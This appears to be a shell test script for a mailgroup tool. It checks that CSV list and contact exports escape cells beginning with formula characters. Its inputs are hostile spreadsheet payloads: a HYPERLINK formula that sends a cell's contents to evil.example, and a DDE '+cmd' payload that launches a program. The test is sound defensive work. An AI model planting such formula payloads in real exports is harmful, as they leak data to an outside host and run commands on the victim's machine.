#!/usr/bin/env bash
# CSV written by mailgroup never runs as a spreadsheet formula: a cell that
# starts with = + - @ (or a tab or CR) gets a leading ' (the OWASP rule).
source "$(dirname "$0")/common.sh"
new_store
run create sales@example.com --name '=HYPERLINK("http://evil.example/?x="&A2,"Click")' \
  --description '+cmd|" /C calc"!A0' --member a@example.com
expect_ok
run create =x@example.com --name '@SUM(1+1)' --description '-2+3' --member a@example.com
expect_ok
run create plain@example.com --name 'Plain, Simple' --description 'a "quoted" word' --member a@example.com
expect_ok

run list --format csv
expect_ok
expect_stdout "address,name,description,permission,members,frozen,audit,show_in_contacts,department
'=x@example.com,'@SUM(1+1),'-2+3,domain,1,no,no,yes,
plain@example.com,\"Plain, Simple\",\"a \"\"quoted\"\" word\",domain,1,no,no,yes,
sales@example.com,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",\"'+cmd|\"\" /C calc\"\"!A0\",domain,1,no,no,yes,"

run export contacts --format csv
expect_ok
expect_stdout "name,address,description
'@SUM(1+1),'=x@example.com,'-2+3
\"Plain, Simple\",plain@example.com,\"a \"\"quoted\"\" word\"
\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",sales@example.com,\"'+cmd|\"\" /C calc\"\"!A0\""

# What a spreadsheet-minded reader sees: no cell starts with a formula sign.
"$MAILGROUP" list --format csv | python3 -c '
import csv, sys
for row in csv.reader(sys.stdin):
    for cell in row:
        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell
' || fail "a cell starts with a formula character"
CHECKS=$((CHECKS + 1))
finish
